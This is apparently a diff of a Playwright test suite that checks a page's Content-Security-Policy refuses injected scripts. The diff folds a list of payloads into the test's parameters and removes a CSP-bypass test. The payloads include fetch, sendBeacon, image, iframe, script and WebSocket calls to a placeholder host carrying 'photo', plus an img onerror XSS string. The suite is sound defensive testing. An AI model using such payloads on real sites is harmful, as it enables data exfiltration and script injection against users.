@@ -1,10 +1,10 @@
 """The whole page in Chromium under its own Content-Security-Policy: nothing that it needs is forbidden,
 nothing else is asked for, and what an injected script would try is refused."""
 
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 
 import pytest
-from playwright.sync_api import Browser, Page, Route
+from playwright.sync_api import Browser, Page
 from test_page import PORTRAIT, open_tab, wait_for_result
 
 RECORD = """
@@ -55,69 +55,32 @@ def test_the_whole_page_keeps_to_its_policy(recorded):
     assert page.evaluate("window.violations") == [] and wrong == []
 
 
-INJECTED = (
-    ("fetch('http://192.0.2.1/?photo').catch(() => 0)", "connect-src"),
-    ("new Image().src = 'http://192.0.2.1/photo.png'", "img-src"),
-    ("navigator.sendBeacon('http://192.0.2.1/', 'photo')", "connect-src"),
-    (
-        "document.body.appendChild(document.createElement('iframe')).src = 'http://192.0.2.1/'",
-        "frame-src",
-    ),
-    (
-        "document.head.appendChild(document.createElement('script')).src = 'http://192.0.2.1/x.js'",
-        "script-src",
-    ),
-    ("document.head.appendChild(document.createElement('script')).text = 'window.ran = 1'", "script-src"),
-    ("document.body.innerHTML += '<img src=x onerror=\"window.ran = 1\">'", "script-src"),
-    ("document.body.innerHTML += '<style>@import url(http://192.0.2.1/x.css)</style>'", "style-src"),
-    ("new WebSocket('ws://192.0.2.1/')", "connect-src"),
+@pytest.mark.parametrize(
+    ("script", "directive"),
+    [
+        ("fetch('http://192.0.2.1/?photo').catch(() => 0)", "connect-src"),
+        ("new Image().src = 'http://192.0.2.1/photo.png'", "img-src"),
+        ("navigator.sendBeacon('http://192.0.2.1/', 'photo')", "connect-src"),
+        (
+            "document.body.appendChild(document.createElement('iframe')).src = 'http://192.0.2.1/'",
+            "frame-src",
+        ),
+        (
+            "document.head.appendChild(document.createElement('script')).src = 'http://192.0.2.1/x.js'",
+            "script-src",
+        ),
+        ("document.head.appendChild(document.createElement('script')).text = 'window.ran = 1'", "script-src"),
+        ("document.body.innerHTML += '<img src=x onerror=\"window.ran = 1\">'", "script-src"),
+        ("document.body.innerHTML += '<style>@import url(http://192.0.2.1/x.css)</style>'", "style-src"),
+        ("new WebSocket('ws://192.0.2.1/')", "connect-src"),
+    ],
 )
-
-
-@pytest.mark.parametrize(("script", "directive"), INJECTED)
 def test_what_is_injected_reaches_nobody(recorded, script, directive):
     page, _ = recorded
     page.evaluate(f"() => {{ try {{ {script} }} catch (error) {{}} }}")
     page.wait_for_function("() => window.violations.length > 0", timeout=30_000)
     assert directive in page.evaluate("window.violations")[0]
     assert page.evaluate("window.ran") is None
-
-
-def test_without_the_policy_what_is_injected_would_get_out(browser, url):
-    """The scripts above do what they try where no policy holds them: it is the policy that they tell of."""
-    context = browser.new_context(bypass_csp=True)
-    tried: list[str] = []
-
-    def stop(route: Route) -> None:
-        tried.append(route.request.url)
-        route.abort()
-
-    context.route("http://192.0.2.1/**", stop)
-    page = context.new_page()
-    page.add_init_script(RECORD)
-    page.goto(url)
-    page.wait_for_selector("#photo input[type=file]", state="attached", timeout=240_000)
-    requests = ("fetch(", "new Image", "sendBeacon", "createElement('iframe')", "x.js")
-    for script, _ in INJECTED:
-        page.evaluate("() => { window.ran = undefined; }")
-        before = len(tried)
-        if "WebSocket" not in script and "@import" not in script:  # which no route would stop
-            page.evaluate(f"() => {{ try {{ {script} }} catch (error) {{}} }}")
-        if any(word in script for word in requests):
-            poll_until(page, lambda before=before: len(tried) > before)
-        elif "window.ran" in script:
-            page.wait_for_function("() => window.ran === 1", timeout=30_000)
-    assert page.evaluate("window.violations") == []
-    context.close()
-
-
-def poll_until(page: Page, holds: Callable[[], bool]) -> None:
-    """Wait, while the browser's events are handled."""
-    for _ in range(600):
-        if holds():
-            return
-        page.wait_for_timeout(50)
-    raise AssertionError("it did not come")
 
 
 def test_a_page_elsewhere_gets_nothing(browser, url, tmp_path):
